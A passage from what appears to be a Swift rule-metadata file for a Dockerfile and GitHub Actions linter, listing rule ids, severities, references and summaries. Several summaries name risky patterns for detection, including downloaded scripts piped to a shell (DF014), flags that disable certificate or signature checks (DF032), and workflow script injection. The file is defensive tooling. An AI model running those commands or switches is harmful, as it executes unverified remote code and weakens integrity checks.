            summary: "Reports a Dockerfile whose final stage (together with the stages it is built `FROM`) never sets `USER`, at the final `FROM` image, or whose last `USER` is `root` or `0`, at that user. A `USER` given through a variable with no value known in the file is not judged; distroless `:nonroot` and Chainguard bases, which already run unprivileged, are not reported.",
            sourcePath: "Rules/dockerfile/DF001.md"
        ),
        RuleMetadata(
            id: "DF002", title: "Final image has no HEALTHCHECK", kind: "dockerfile", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.6: Ensure that HEALTHCHECK instructions have been added to container images", "https://docs.docker.com/reference/dockerfile/#healthcheck"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_2")],
            options: [],
            summary: "Reports the final stage, at its `FROM` image, when neither it nor the stages it is built on declare a `HEALTHCHECK`. `HEALTHCHECK NONE` counts as a deliberate choice.",
            sourcePath: "Rules/dockerfile/DF002.md"
        ),
        RuleMetadata(
            id: "DF003", title: "HEALTHCHECK uses a tool the image does not have", kind: "dockerfile", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#healthcheck", "https://github.com/GoogleContainerTools/distroless#debug-images"],
            equivalents: [],
            options: [],
            summary: "Reports the final image's `HEALTHCHECK` when it calls `curl` or `wget` and neither the base image nor any `RUN`/`COPY` of the final stage's lineage provides it, and a shell-form `HEALTHCHECK` on a base without `/bin/sh`. What a base contains comes from a dated table (as of 2026-11): the full `python`/`node`/`ruby`/`golang`/`rust` images have curl and wget, their `-slim` variants have neither, Alpine variants have BusyBox `wget` only, distroless has no shell. A package installed and purged in the same `RUN` does not count. Unknown bases are not judged.",
            sourcePath: "Rules/dockerfile/DF003.md"
        ),
        RuleMetadata(
            id: "DF004", title: "Base image is not pinned to a version", kind: "dockerfile", severity: .warning,
            tags: ["reliability", "security"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#pin-base-image-versions", "https://docs.docker.com/reference/dockerfile/#from"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_7"), (tool: "hadolint", id: "DL3006, DL3007")],
            options: [],
            summary: "Reports a `FROM` image without a tag (which means `:latest`) or with the `latest` tag, at the image argument, after substituting the global `ARG`s. `scratch`, references to earlier stages, digest-pinned images and images whose variable has no value in the file are not reported.",
            sourcePath: "Rules/dockerfile/DF004.md"
        ),
        RuleMetadata(
            id: "DF005", title: "Base image is not pinned by digest", kind: "dockerfile", severity: .note,
            tags: ["security", "reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#pin-base-image-versions", "https://docs.docker.com/reference/dockerfile/#from", "CIS Docker Benchmark v1.6.0, 4.2: Ensure that containers use only trusted base images"],
            equivalents: [],
            options: [],
            summary: "Reports a `FROM` image pinned by tag but not by digest, at the image argument. Images that DF004 already reports (no tag, `latest`), `scratch` and stage references are left out.",
            sourcePath: "Rules/dockerfile/DF005.md"
        ),
        RuleMetadata(
            id: "DF006", title: "ADD used to copy local files", kind: "dockerfile", severity: .warning,
            tags: ["best-practice", "security"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.9: Ensure that COPY is used instead of ADD in Dockerfiles", "https://docs.docker.com/build/building/best-practices/#add-or-copy"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_4"), (tool: "hadolint", id: "DL3020")],
            options: [],
            summary: "Reports `ADD` whose sources are all local files or directories that are not tar archives, at the `ADD` keyword. `ADD` of a local tar archive (which it unpacks) and of URLs (DF007) is left alone.",
            sourcePath: "Rules/dockerfile/DF006.md"
        ),
        RuleMetadata(
            id: "DF007", title: "ADD downloads without a checksum", kind: "dockerfile", severity: .warning,
            tags: ["security"], securitySeverity: "5.5",
            references: ["CIS Docker Benchmark v1.6.0, 4.9: Ensure that COPY is used instead of ADD in Dockerfiles", "https://docs.docker.com/reference/dockerfile/#add---checksum", "https://docs.docker.com/reference/dockerfile/#adding-private-git-repositories"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_4")],
            options: [],
            summary: "Reports each remote `ADD` source, at the URL: an HTTP(S) URL without `--checksum`, or a Git repository at a branch or tag instead of a commit.",
            sourcePath: "Rules/dockerfile/DF007.md"
        ),
        RuleMetadata(
            id: "DF008", title: "apt-get install without -y", kind: "dockerfile", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#apt-get", "https://manpages.debian.org/apt-get.8"],
            equivalents: [(tool: "hadolint", id: "DL3014")],
            options: [],
            summary: "Reports `apt-get` (or `apt`) `install`, `upgrade`, `remove`… in a `RUN` without `-y`/`--yes`/`--assume-yes` (alone or in a cluster such as `-qy`), at the subcommand. Simulations (`-s`), `-o APT::Get::Assume-Yes=true` and `yes | apt-get …` are not reported.",
            sourcePath: "Rules/dockerfile/DF008.md"
        ),
        RuleMetadata(
            id: "DF009", title: "apt-get install pulls in recommended packages", kind: "dockerfile", severity: .note,
            tags: ["cost", "security"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.3: Ensure that unnecessary packages are not installed in the container", "https://docs.docker.com/build/building/best-practices/#apt-get", "https://wiki.debian.org/ReduceDebian#Reconfigure_apt_so_that_it_does_not_install_additional_packages"],
            equivalents: [(tool: "hadolint", id: "DL3015")],
            options: [],
            summary: "Reports `apt-get install` (or `apt install`) with packages and without `--no-install-recommends` in a stage whose layers reach the final image, at the subcommand. `-o APT::Install-Recommends=false`, and an earlier `APT::Install-Recommends \"0\"` written to `/etc/apt/apt.conf.d`, count as opting out. Build stages that are not part of the final image are left alone.",
            sourcePath: "Rules/dockerfile/DF009.md"
        ),
        RuleMetadata(
            id: "DF010", title: "apt lists left in the image", kind: "dockerfile", severity: .note,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#apt-get"],
            equivalents: [(tool: "hadolint", id: "DL3009")],
            options: [],
            summary: "Reports `apt-get update` in a `RUN` that also installs packages but does not remove `/var/lib/apt/lists` (nor run `apt-get dist-clean`, nor mount a cache over `/var/lib/apt`), in a stage whose layers reach the final image, at `update`.",
            sourcePath: "Rules/dockerfile/DF010.md"
        ),
        RuleMetadata(
            id: "DF011", title: "Package index update alone in its RUN", kind: "dockerfile", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.7: Ensure update instructions are not used alone in the Dockerfile", "https://docs.docker.com/build/building/best-practices/#apt-get"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_5")],
            options: [],
            summary: "Reports `apt-get update` (or `apk update`) in a `RUN` that installs nothing of that package manager, when a later `RUN` of the stage (or of a stage built on it) installs packages without refreshing the index itself, at `update`. An `apk add --no-cache`/`--update` later fetches a fresh index and is not affected.",
            sourcePath: "Rules/dockerfile/DF011.md"
        ),
        RuleMetadata(
            id: "DF012", title: "apk add without --no-cache", kind: "dockerfile", severity: .note,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper#Local_Cache", "https://docs.docker.com/build/building/best-practices/"],
            equivalents: [(tool: "hadolint", id: "DL3019")],
            options: [],
            summary: "Reports `apk add` without `--no-cache` in a stage whose layers reach the final image, at `add`, unless the same `RUN` removes `/var/cache/apk` or runs `apk cache`, or a cache mount covers `/var/cache/apk`.",
            sourcePath: "Rules/dockerfile/DF012.md"
        ),
        RuleMetadata(
            id: "DF013", title: "pip install keeps its cache", kind: "dockerfile", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://pip.pypa.io/en/stable/topics/caching/", "https://docs.docker.com/build/cache/optimize/#use-cache-mounts"],
            equivalents: [(tool: "hadolint", id: "DL3042")],
            options: [],
            summary: "Reports `pip install` (also `pipN`, `python -m pip`) without `--no-cache-dir` in a stage whose layers reach the final image, at `install`. Not reported when `PIP_NO_CACHE_DIR` is set (ENV, ARG or on the command), when a cache mount covers pip's cache, or when the same `RUN` removes `~/.cache` or runs `pip cache purge`. Build stages that are not part of the final image are left alone: their cache is not copied.",
            sourcePath: "Rules/dockerfile/DF013.md"
        ),
        RuleMetadata(
            id: "DF014", title: "Downloaded script piped to a shell", kind: "dockerfile", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Docker Benchmark v1.6.0, 4.11: Ensure only verified packages are installed", "https://docs.docker.com/build/building/best-practices/#run", "https://www.seancassidy.me/dont-pipe-to-your-shell.html"],
            equivalents: [],
            options: [],
            summary: "Reports a shell that runs what curl or wget download without a check, at the shell: `curl … | sh`, `wget -O- … | sudo bash -`, `sh -c \"$(curl …)\"` and `bash <(curl …)`, in `RUN` and `ONBUILD RUN`.",
            sourcePath: "Rules/dockerfile/DF014.md"
        ),
        RuleMetadata(
            id: "DF015", title: "sudo in RUN", kind: "dockerfile", severity: .error,
            tags: ["security", "best-practice"], securitySeverity: "5.0",
            references: ["https://docs.docker.com/build/building/best-practices/#user"],
            equivalents: [(tool: "checkov", id: "CKV2_DOCKER_1"), (tool: "hadolint", id: "DL3004")],
            options: [],
            summary: "Reports `sudo` used as a command in `RUN` (including heredoc scripts, `sh -c` strings and `ONBUILD RUN`), at `sudo`.",
            sourcePath: "Rules/dockerfile/DF015.md"
        ),
        RuleMetadata(
            id: "DF016", title: "cd at the start of RUN instead of WORKDIR", kind: "dockerfile", severity: .warning,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#workdir"],
            equivalents: [(tool: "hadolint", id: "DL3003")],
            options: [],
            summary: "Reports a shell-form `RUN` whose first command (after `set`/`export`) is `cd dir`, at that `cd`; a `RUN` that only changes directory is reported as having no effect. `cd` later in a script, in a subshell `( … )`, in heredoc scripts, and to targets that need shell-only expansions (`${VAR%…}`, `$(…)`) is left alone.",
            sourcePath: "Rules/dockerfile/DF016.md"
        ),
        RuleMetadata(
            id: "DF017", title: "Relative WORKDIR", kind: "dockerfile", severity: .warning,
            tags: ["reliability", "maintainability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#workdir"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_10"), (tool: "hadolint", id: "DL3000")],
            options: [],
            summary: "Reports a `WORKDIR` whose path, after substituting known `ARG`/`ENV` values, is not absolute, at the path; the message spells out the absolute path when an earlier `WORKDIR` of the stage is known. `WORKDIR .`, Windows drive paths and paths with unknown variables are not reported.",
            sourcePath: "Rules/dockerfile/DF017.md"
        ),
        RuleMetadata(
            id: "DF018", title: "COPY --from names no earlier stage", kind: "dockerfile", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/multi-stage/#name-your-build-stages", "https://docs.docker.com/reference/dockerfile/#copy---from"],
            equivalents: [(tool: "hadolint", id: "DL3022, DL3023")],
            options: [],
            summary: "Reports `COPY --from=` and `RUN --mount=from=` values that name the instruction's own stage, a stage defined later, a stage index that does not exist, or a bare name that is not a stage but is a dash-separated part of one or within two edits of one (`buidler` for `builder`), at the value. Values with a registry, path, tag or digest are images and are not judged.",
            sourcePath: "Rules/dockerfile/DF018.md"
        ),
        RuleMetadata(
            id: "DF019", title: "Duplicate stage name", kind: "dockerfile", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/multi-stage/#name-your-build-stages", "https://docs.docker.com/reference/build-checks/duplicate-stage-name/"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_11"), (tool: "docker-build-checks", id: "DuplicateStageName"), (tool: "hadolint", id: "DL3024")],
            options: [],
            summary: "Reports a stage whose `AS` name (compared case-insensitively, as Docker does) was already used by an earlier stage, at the second name.",
            sourcePath: "Rules/dockerfile/DF019.md"
        ),
        RuleMetadata(
            id: "DF020", title: "Repeated CMD, ENTRYPOINT or HEALTHCHECK in a stage", kind: "dockerfile", severity: .warning,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#cmd", "https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"],
            equivalents: [(tool: "docker-build-checks", id: "MultipleInstructionsDisallowed"), (tool: "hadolint", id: "DL4003, DL4004")],
            options: [],
            summary: "Reports every `CMD`, `ENTRYPOINT` and `HEALTHCHECK` of a stage that a later one of the same kind in that stage overrides, at the overridden keyword (the one to delete).",
            sourcePath: "Rules/dockerfile/DF020.md"
        ),
        RuleMetadata(
            id: "DF021", title: "Shell-form CMD or ENTRYPOINT in the final image", kind: "dockerfile", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#shell-and-exec-form", "https://docs.docker.com/reference/build-checks/json-args-recommended/"],
            equivalents: [(tool: "docker-build-checks", id: "JSONArgsRecommended"), (tool: "hadolint", id: "DL3025")],
            options: [],
            summary: "Reports the final image's effective `ENTRYPOINT` and `CMD` when written in shell form, at the command; a shell-form `CMD` after an exec-form `ENTRYPOINT` is reported because it reaches the entrypoint as `/bin/sh -c …`. A shell-form command that starts with `exec` (which replaces the shell) is accepted, except as arguments to an `ENTRYPOINT`.",
            sourcePath: "Rules/dockerfile/DF021.md"
        ),
        RuleMetadata(
            id: "DF022", title: "World-writable permissions", kind: "dockerfile", severity: .warning,
            tags: ["security"], securitySeverity: "5.5",
            references: ["https://docs.docker.com/reference/dockerfile/#copy---chmod", "https://man7.org/linux/man-pages/man1/chmod.1.html"],
            equivalents: [],
            options: [],
            summary: "Reports `chmod` in `RUN` and `COPY`/`ADD --chmod` with a mode that lets every user write (an octal mode whose last digit has the write bit, such as `777` or `666`; symbolic `a+w`/`o+w`), at the mode. Modes with the sticky bit (`1777`, `+t`) and scratch directories deleted later in the same `RUN` are left alone.",
            sourcePath: "Rules/dockerfile/DF022.md"
        ),
        RuleMetadata(
            id: "DF023", title: "Secret in ENV or ARG", kind: "dockerfile", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CIS Docker Benchmark v1.6.0, 4.10: Ensure secrets are not stored in Dockerfiles", "https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/", "https://docs.docker.com/build/building/secrets/"],
            equivalents: [(tool: "docker-build-checks", id: "SecretsUsedInArgOrEnv")],
            options: [],
            summary: "Reports `ENV` values and `ARG` defaults that set a secret-looking name (words such as PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, PRIVATE_KEY, ACCESS_KEY, CREDENTIALS) to a literal value, at the value; the value is redacted in every report. Names that describe a secret rather than hold one (`…_FILE`, `…_PATH`, `…_URL`, `…_ID`, `…_TTL`…), variable references, paths and obvious placeholders (`changeme`, `<…>`, `your-…`, `example`, `fake`) are not reported.",
            sourcePath: "Rules/dockerfile/DF023.md"
        ),
        RuleMetadata(
            id: "DF024", title: "Build toolchain left in the final image", kind: "dockerfile", severity: .warning,
            tags: ["cost", "security"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.3: Ensure that unnecessary packages are not installed in the container", "https://docs.docker.com/build/building/multi-stage/", "https://docs.docker.com/build/building/best-practices/#use-multi-stage-builds"],
            equivalents: [],
            options: [],
            summary: "Reports compilers and build tools (build-essential, build-base, gcc, g++, clang, make, cmake, cargo, rustc, golang, rustup's installer, and the Python build tools maturin, cython, setuptools-rust) installed in the final stage or the stages it is built on, at the package. Tools removed again in the same `RUN` (`apt-get purge`, the `apt-mark auto … --auto-remove` idiom, `apk del` of a `--virtual` group) are not reported. A warning in a multi-stage build; a note in a single-stage one, where a build stage first has to be introduced.",
            sourcePath: "Rules/dockerfile/DF024.md"
        ),
        RuleMetadata(
            id: "DF025", title: "COPY of the whole context without a .dockerignore", kind: "dockerfile", severity: .warning,
            tags: ["security", "cost"], securitySeverity: "4.0",
            references: ["https://docs.docker.com/build/concepts/context/#dockerignore-files", "https://docs.docker.com/build/building/best-practices/#exclude-with-dockerignore"],
            equivalents: [],
            options: [],
            summary: "Reports the first `COPY`/`ADD` of the whole build context (`.`, `./`, `*`) when the directory holding the Dockerfile has neither a `.dockerignore` nor a `<Dockerfile name>.dockerignore`, at the source. Copies from stages or images are left alone. The rule assumes the build context is the Dockerfile's directory; when the linter is not given the directory listing it stays silent.",
            sourcePath: "Rules/dockerfile/DF025.md"
        ),
        RuleMetadata(
            id: "DF026", title: "Deprecated MAINTAINER", kind: "dockerfile", severity: .warning,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#maintainer-deprecated", "https://docs.docker.com/reference/build-checks/maintainer-deprecated/", "https://github.com/opencontainers/image-spec/blob/main/annotations.md"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_6"), (tool: "docker-build-checks", id: "MaintainerDeprecated"), (tool: "hadolint", id: "DL4000")],
            options: [],
            summary: "Reports every `MAINTAINER` instruction, at the keyword.",
            sourcePath: "Rules/dockerfile/DF026.md"
        ),
        RuleMetadata(
            id: "DF027", title: "Invalid EXPOSE value", kind: "dockerfile", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#expose"],
            equivalents: [(tool: "hadolint", id: "DL3011")],
            options: [],
            summary: "Reports `EXPOSE` values that are not `port[/tcp|udp|sctp]` or a range `start-end[/proto]` with ports from 1 to 65535 (after substituting known `ARG`/`ENV` values), at the value: port 0 or above 65535, an unknown protocol, a reversed range, or a `host:container` mapping.",
            sourcePath: "Rules/dockerfile/DF027.md"
        ),
        RuleMetadata(
            id: "DF028", title: "BuildKit-only syntax without a syntax directive", kind: "dockerfile", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#syntax", "https://docs.docker.com/build/buildkit/frontend/"],
            equivalents: [],
            options: [],
            summary: "Reports, once per file, the first BuildKit-only construct — heredocs, `RUN --mount`/`--network`/`--security`/`--device`, `COPY --link`/`--parents`/`--exclude`, `ADD --checksum`/`--keep-git-dir`/`--link` — when the file has no `# syntax=` directive; the message counts the others.",
            sourcePath: "Rules/dockerfile/DF028.md"
        ),
        RuleMetadata(
            id: "DF029", title: "useradd with a high UID and without -l", kind: "dockerfile", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://github.com/moby/moby/issues/5419", "https://man7.org/linux/man-pages/man8/useradd.8.html"],
            equivalents: [],
            options: [],
            summary: "Reports `useradd -u N` (or `--uid N`) with N of 10000 or more and without `-l`/`--no-log-init`, at the UID. A warning from UID 100000 (a lastlog of about 29 MB and more); a note below that.",
            sourcePath: "Rules/dockerfile/DF029.md"
        ),
        RuleMetadata(
            id: "DF030", title: "Final image over its size budget", kind: "dockerfile", severity: .warning,
            tags: ["cost", "performance"], securitySeverity: nil,
            references: ["https://docs.docker.com/build/building/best-practices/#use-multi-stage-builds", "https://docs.docker.com/build/building/best-practices/#dont-install-unnecessary-packages"],
            equivalents: [],
            options: [(name: "budget-mb", description: "the size budget in MB (default 500)")],
            summary: "Estimates the final image's size and reports it, at the final `FROM`, when it exceeds the budget (500 MB unless the `budget-mb` option says otherwise). The estimate is the base of the final stage's lineage from a dated table of approximate uncompressed sizes (as of 2026-11: e.g. python:3.13 ~1020 MB, python:3.13-slim ~125 MB, python:3.13-alpine ~50 MB, node:24 ~1120 MB, node:24-slim ~220 MB, node:24-alpine ~155 MB, debian slim ~75 MB, alpine ~8 MB, distroless static ~2 MB), plus the OS packages the lineage installs and keeps (rough per-package sizes for well-known heavy ones such as build-essential ~240 MB or chromium ~350 MB, 5 MB for others, a third more without `--no-install-recommends`), well-known heavy Python wheels (torch, pandas, numpy…), and well-known heavy paths copied from other stages or images (a Rust toolchain, `/usr/local/go`, a whole stage copied with `COPY --from=stage / /`). Files from the build context are not counted. Unknown base images give no finding.",
            sourcePath: "Rules/dockerfile/DF030.md"
        ),
        RuleMetadata(
            id: "DF031", title: "End-of-life base image", kind: "dockerfile", severity: .warning,
            tags: ["security", "reliability"], securitySeverity: "6.0",
            references: ["CIS Docker Benchmark v1.6.0, 4.4: Ensure images are scanned and rebuilt to include security patches", "https://nodejs.org/en/about/previous-releases", "https://www.ruby-lang.org/en/downloads/branches/", "https://devguide.python.org/versions/", "https://alpinelinux.org/releases/", "https://wiki.debian.org/LTS", "https://github.com/bitnami/containers/issues/83267"],
            equivalents: [],
            options: [],
            summary: "Reports a `FROM` image whose language runtime or distribution release has reached end of life, at the image, from a dated table (as of 2026-11): Node.js 20 and older and the odd releases 21/23/25, Python 3.10 and older, Ruby 3.2 and older, Go 1.25 and older, PHP 8.1 and older, PostgreSQL 13 and older, Debian 11 (bullseye) and older (also in variant tags such as `-bullseye` and distroless `-debian11`), Ubuntu 20.04 and interim releases, Alpine 3.21 and older (also `-alpine3.21` variants); and the Bitnami images, which stopped receiving updates when Bitnami moved them to `bitnamilegacy` on 2025-08-28.",
            sourcePath: "Rules/dockerfile/DF031.md"
        ),
        RuleMetadata(
            id: "DF032", title: "Certificate or signature verification disabled", kind: "dockerfile", severity: .error,
            tags: ["security"], securitySeverity: "7.5",
            references: ["CIS Docker Benchmark v1.6.0, 4.11: Ensure only verified packages are installed", "https://curl.se/docs/sslcerts.html", "https://pip.pypa.io/en/stable/topics/https-certificates/", "https://nodejs.org/api/cli.html#node_tls_reject_unauthorizedvalue"],
            equivalents: [(tool: "checkov", id: "CKV2_DOCKER_2, CKV2_DOCKER_3, CKV2_DOCKER_4, CKV2_DOCKER_5, CKV2_DOCKER_6, CKV2_DOCKER_7, CKV2_DOCKER_8, CKV2_DOCKER_9, CKV2_DOCKER_10, CKV2_DOCKER_11, CKV2_DOCKER_12, CKV2_DOCKER_13, CKV2_DOCKER_14, CKV2_DOCKER_16")],
            options: [],
            summary: "Reports switches that turn off TLS certificate or package signature checks, at the switch: `curl -k`/`--insecure`, `wget --no-check-certificate`, `pip --trusted-host`, `apt-get --allow-unauthenticated`/`--force-yes`, `apk --allow-untrusted`, `yum`/`dnf --nogpgcheck`, `rpm --nosignature`…, `npm config set strict-ssl false`, `git … http.sslVerify false`, and the variables `NODE_TLS_REJECT_UNAUTHORIZED=0`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false`, `GIT_SSL_NO_VERIFY`, `PIP_TRUSTED_HOST` in `ENV`, `ARG` or on a command.",
            sourcePath: "Rules/dockerfile/DF032.md"
        ),
        RuleMetadata(
            id: "DF033", title: "apt instead of apt-get", kind: "dockerfile", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://manpages.debian.org/apt.8#SCRIPT_USAGE_AND_DIFFERENCES_FROM_OTHER_APT_TOOLS", "https://docs.docker.com/build/building/best-practices/#apt-get"],
            equivalents: [(tool: "checkov", id: "CKV_DOCKER_9"), (tool: "hadolint", id: "DL3027")],
            options: [],
            summary: "Reports `apt` running `install`, `update`, `upgrade`, `remove`, `purge`… in `RUN`, at `apt`. Read-only queries such as `apt list` are left alone.",
            sourcePath: "Rules/dockerfile/DF033.md"
        ),
        RuleMetadata(
            id: "DF034", title: "Several COPY sources into a non-directory", kind: "dockerfile", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/#destination"],
            equivalents: [(tool: "hadolint", id: "DL3021")],
            options: [],
            summary: "Reports `COPY`/`ADD` with two or more sources whose destination (after substituting known variables) does not end with `/` (and is not `.` or `..`), at the destination.",
            sourcePath: "Rules/dockerfile/DF034.md"
        ),
        RuleMetadata(
            id: "DF035", title: "Final USER is a name or a low UID", kind: "dockerfile", severity: .note,
            tags: ["security"], securitySeverity: nil,
            references: ["CIS Docker Benchmark v1.6.0, 4.1: Ensure that a user for the container has been created", "https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"],
            equivalents: [],
            options: [],
            summary: "Reports the final image's last `USER` (from the final stage or the stages it is built on) when it names the user (`USER app`) or gives a UID of 10000 or less, at the user. `root`/`0` is DF001's finding; a user given through a variable with no value known in the file is not judged.",
            sourcePath: "Rules/dockerfile/DF035.md"
        ),
        RuleMetadata(
            id: "SQ001", title: "File does not parse", kind: "engine", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.docker.com/reference/dockerfile/", "https://yaml.org/spec/1.2.2/"],
            equivalents: [],
            options: [],
            summary: "The file could not be read as its kind (a Dockerfile, a YAML file such as compose, Kubernetes or a GitHub workflow) because of a syntax error or because it is not UTF-8 text, so none of that kind's rules ran on it.",
            sourcePath: "Rules/engine/SQ001.md"
        ),
        RuleMetadata(
            id: "SQ002", title: "Suppression without a reason", kind: "engine", severity: .note,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.astral.sh/ruff/rules/blanket-noqa/"],
            equivalents: [],
            options: [],
            summary: "A `specql-deploy ignore=…` or `ignore-file=…` comment does not say why the finding does not apply: it has no `reason=\"…\"`.",
            sourcePath: "Rules/engine/SQ002.md"
        ),
        RuleMetadata(
            id: "SQ003", title: "Unused suppression", kind: "engine", severity: .note,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.astral.sh/ruff/rules/unused-noqa/"],
            equivalents: [],
            options: [],
            summary: "A suppression comment silences nothing: no finding of the named rule is on the line it covers (or in the file for `ignore-file=`), the id is not a rule at all, or the rule belongs to another kind of file.",
            sourcePath: "Rules/engine/SQ003.md"
        ),
        RuleMetadata(
            id: "GHA001", title: "Action not pinned to a commit SHA", kind: "github-workflow", severity: .warning,
            tags: ["security"], securitySeverity: "6.5",
            references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions", "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idstepsuses"],
            equivalents: [(tool: "zizmor", id: "unpinned-uses")],
            options: [],
            summary: "Reports a step `uses:` or a reusable-workflow `uses:` whose ref is not a full 40-character commit SHA, at the ref. Actions owned by `actions` and `github` are reported as notes; other owners as warnings. An abbreviated SHA is reported with its own message. `docker://` images without an `@sha256:` digest are reported as notes; local actions (`./…`) are not reported.",
            sourcePath: "Rules/github-workflow/GHA001.md"
        ),
        RuleMetadata(
            id: "GHA002", title: "Untrusted checkout in a privileged workflow", kind: "github-workflow", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections", "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target"],
            equivalents: [(tool: "zizmor", id: "dangerous-triggers")],
            options: [],
            summary: "In a workflow triggered by `pull_request_target` or `workflow_run`, reports an `actions/checkout` step whose `ref` or `repository` reads the pull request's head (`github.event.pull_request.head.sha`/`.ref`, `github.head_ref`, `github.event.workflow_run.head_sha`/`head_branch`/`head_repository`, `refs/pull/…`), at the input's value, and a `run:` script that runs `gh pr checkout` or a git command on such a ref. A job or step `if:` that admits only same-repository heads (`head.repo.full_name == github.repository`, `head.repo.fork == false`) or one PR author (`github.event.pull_request.user.login == …`) lowers the finding to a note; `github.actor` checks do not (a re-run or a bot's update changes the actor, not the code).",
            sourcePath: "Rules/github-workflow/GHA002.md"
        ),
        RuleMetadata(
            id: "GHA003", title: "Script injection from untrusted input", kind: "github-workflow", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections", "https://securitylab.github.com/resources/github-actions-untrusted-input/"],
            equivalents: [(tool: "actionlint", id: "expression"), (tool: "checkov", id: "CKV_GHA_2"), (tool: "zizmor", id: "template-injection")],
            options: [],
            summary: "Reports a `${{ … }}` expression in a `run:` script or in the `script` input of `actions/github-script` that expands attacker-controlled text: titles, bodies and messages of issues, pull requests, comments, reviews, discussions and commits, commit author names and e-mails, `github.head_ref`, `pull_request.head.ref`/`.label`, `workflow_run.head_branch` and the like — at the expression, with exact columns in block scalars. Values that only feed a test (`contains(…)`, `==`, `!`) are not reported. Free-text inputs of `workflow_dispatch`/`workflow_call` (`inputs.x`, `github.event.inputs.x`, untyped or `type: string`) are reported as notes: only people who can run or call the workflow choose them; `choice`, `boolean`, `number` and `environment` inputs are not reported.",
            sourcePath: "Rules/github-workflow/GHA003.md"
        ),
        RuleMetadata(
            id: "GHA004", title: "Job runs with default token permissions", kind: "github-workflow", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets", "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"],
            equivalents: [(tool: "zizmor", id: "excessive-permissions")],
            options: [],
            summary: "When the workflow has no top-level `permissions:`, reports each job that sets none either, at the job's id. Workflows triggered only by `workflow_call` are skipped: their token is bounded by the caller's permissions.",
            sourcePath: "Rules/github-workflow/GHA004.md"
        ),
        RuleMetadata(
            id: "GHA005", title: "write-all permissions", kind: "github-workflow", severity: .error,
            tags: ["security"], securitySeverity: "7.0",
            references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions", "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets"],
            equivalents: [(tool: "checkov", id: "CKV2_GHA_1"), (tool: "zizmor", id: "excessive-permissions")],
            options: [],
            summary: "Reports `permissions: write-all` at the workflow or job level, at the value.",
            sourcePath: "Rules/github-workflow/GHA005.md"
        ),
        RuleMetadata(
            id: "GHA006", title: "Checkout credentials uploaded in an artifact", kind: "github-workflow", severity: .warning,
            tags: ["security"], securitySeverity: "7.5",
